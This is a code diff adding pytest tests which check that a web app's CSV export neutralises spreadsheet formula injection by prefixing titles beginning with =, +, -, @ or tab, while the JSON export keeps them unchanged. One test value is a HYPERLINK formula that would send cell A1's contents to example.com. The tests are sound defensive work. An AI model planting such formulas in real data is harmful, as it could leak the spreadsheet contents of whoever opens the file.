@@ -283,3 +283,23 @@ def test_list_pages_link_to_their_filtered_results(client, db, list_name, datase
     html = client.get(f"{page}?{params}").content.decode()
     assert f'href="{url(dataset, "csv")}?{params}"' in html
     assert f'href="{url(dataset, "json")}?{params}"' in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_a_text_a_spreadsheet_would_run_is_text_in_the_csv(client, make_challenge, start):
+    """Ideas are written by anyone: one titled =HYPERLINK(…) must not become a live formula in
+    the spreadsheet of whoever opens the CSV. The JSON keeps it as written."""
+    title = start + 'HYPERLINK("https://example.com/?x="&A1;"Klicka")'
+    make_challenge(title=title, slug="formel")
+
+    (row,) = rows(client, "challenges", "csv")
+    assert row["title"] == "'" + title
+    (item,) = rows(client, "challenges", "json")
+    assert item["title"] == title
+
+
+def test_plain_texts_and_numbers_are_unchanged_in_the_csv(client, make_challenge):
+    challenge = make_challenge(title="Renare Öresund 2030", slug="renare")
+    (row,) = rows(client, "challenges", "csv")
+    assert row["title"] == "Renare Öresund 2030"
+    assert row["id"] == str(challenge.pk)
